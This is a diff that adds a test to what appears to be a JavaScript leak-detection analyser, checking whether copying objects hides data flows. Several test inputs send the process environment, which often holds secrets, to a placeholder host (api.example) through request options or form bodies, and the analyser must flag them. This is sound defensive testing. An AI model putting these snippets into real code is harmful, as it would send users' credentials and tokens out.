@@ -154,6 +154,17 @@ test('the own name of a computer: its look-up tells nobody, a message does', () 
   assert.deepEqual([severity('require("dns").lookup(name)'), severity('require("net").isIP(name)'), severity('fetch(name)'), severity('fetch(u, { body: name })'), severity('require("dns").lookup(name + zone)')], ['nothing', 'nothing', 'high', 'high', 'high']);
 });
 
+test('what copies the members of one object into another gives each call what that call has', () => {
+  const copy = 'function extend(dest, src) { for (var key in src) { dest[key] = src[key] } return dest }';
+  const options = 'const run = { env: extend({}, process.env) };';
+  for (const code of ['request(extend({ uri: "https://api.example/" + id }, { strict: true }))', 'request(extend({ uri: "https://api.example/" }))']) assert.equal(worst(`const request = require("request"); ${copy} ${options} ${code}`), 'nothing', code);
+  for (const code of [
+    'request(extend({ uri: "https://api.example/" }, process.env))', 'request(extend(process.env, { uri: "https://api.example/" }))',
+    'const all = extend({}, process.env); request({ uri: "https://api.example/", form: all })',
+    'const other = process.env; function keep(dest, src) { for (const key in src) dest[key] = src[key]; for (const key in other) dest[key] = other[key]; return dest } request(keep({ uri: "https://api.example/" }, {}))',
+  ]) assert.notEqual(worst(`const request = require("request"); ${copy} ${code}`), 'nothing', code);
+});
+
 test('good: a setting that is only compared', () => {
   assert.equal(worst('const all = process.env; fetch(typeof all === "object" ? u : v, { body: all === b })'), 'nothing');
 });
